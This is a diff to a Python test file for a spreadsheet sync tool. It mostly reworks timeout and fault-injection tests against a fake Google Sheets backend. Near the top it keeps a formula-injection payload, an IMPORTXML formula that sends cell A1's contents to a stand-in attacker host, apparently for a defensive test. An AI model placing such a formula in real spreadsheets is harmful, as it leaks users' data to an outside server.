@@ -31,6 +31,11 @@ from leverage_sheets.backend import Grid
 INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'
 
 
+# The client's timeout where the clock is not the subject: generous, so a busy machine's slow
+# answer (10,000 rows) is never taken for a stall and retried.
+HEALTHY = 120.0
+
+
 def instant(policy_sleeps: list[float]) -> Callable[[float], None]:
     return policy_sleeps.append
 
@@ -46,7 +51,7 @@ class Book:
     """One spreadsheet on either backend, with a way to look at it from outside the bridge."""
 
     def __init__(self, kind: str, fake: FakeSheets, tmp: Path, grids: dict[str, Grid],
-                 policy: sb.RetryPolicy | None = None, timeout: float = 10.0) -> None:
+                 policy: sb.RetryPolicy | None = None, timeout: float = HEALTHY) -> None:
         self.kind, self.fake = kind, fake
         self.sleeps: list[float] = []
         self.policy = policy or sb.RetryPolicy(max_attempts=4, timeout=timeout,
@@ -389,16 +394,18 @@ def test_request_counts_against_naive_per_cell_sync(fake: FakeSheets) -> None:
 FAULTS = ["429", "500", "503", "timeout", "timeout_applied", "reset", "reset_applied"]
 
 
-# The client gives up after TIMEOUT; an injected stall lasts longer. Not much shorter: on a
-# busy machine a healthy request must still come back within TIMEOUT.
-TIMEOUT, STALL = 1.0, 2.5
+# The fake holds a stalled request until the test releases it, and the client waits TIMEOUT
+# for that request only, so its timeout is what ends the wait; every other request keeps the
+# generous HEALTHY one, however slow a busy machine makes it.
+TIMEOUT = 0.5
 
 
 def _arm(fake: FakeSheets, fault: str, at: int, times: int = 1) -> None:
     if fault.isdigit():
         fake.inject(int(fault), at=at, times=times)
     elif fault.startswith("timeout"):
-        fake.inject_timeout(at=at, seconds=STALL, times=times, applied=fault.endswith("applied"))
+        fake.inject_timeout(at=at, seconds=None, times=times, applied=fault.endswith("applied"),
+                            client_timeout=TIMEOUT)
     else:
         fake.inject_reset(at=at, times=times, applied=fault.endswith("applied"))
 
@@ -418,7 +425,7 @@ def test_a_fault_at_any_request_leaves_old_or_new_and_a_rerun_converges(
 ) -> None:
     grids = sample_grids("journal", 30)
     book = Book("google", fake, Path("."), grids,
-                policy=sb.RetryPolicy(max_attempts=1, timeout=TIMEOUT, sleep=lambda s: None))
+                policy=sb.RetryPolicy(max_attempts=1, timeout=HEALTHY, sleep=lambda s: None))
     old = book.values("Events")
     _arm(fake, fault, at)
     with pytest.raises(sb.RequestFailed) as err:
@@ -426,16 +433,18 @@ def test_a_fault_at_any_request_leaves_old_or_new_and_a_rerun_converges(
     fake.clear_faults()
     assert book.values("Events") in (old, finished)
     assert ("nothing was written" in str(err.value)) == (at == 0)
+    assert ("timed out" in str(err.value)) == fault.startswith("timeout")
     sb.sync(book.backend, "journal")
     assert book.values("Events") == finished
 
 
 @pytest.mark.parametrize("fault", FAULTS)
 def test_retries_ride_out_transient_faults(fake: FakeSheets, finished: Grid, fault: str) -> None:
-    book = Book("google", fake, Path("."), sample_grids("journal", 30), timeout=TIMEOUT)
+    book = Book("google", fake, Path("."), sample_grids("journal", 30))
     fake.reset_log()
     _arm(fake, fault, at=1, times=2)  # the write fails twice, then goes through
     report = sb.sync(book.backend, "journal")
+    fake.clear_faults()  # releases the held requests
     assert report.requests == 4 == len(fake.requests)
     assert book.values("Events") == finished
     assert len(book.sleeps) == 2 and book.sleeps[0] < book.sleeps[1] * 2
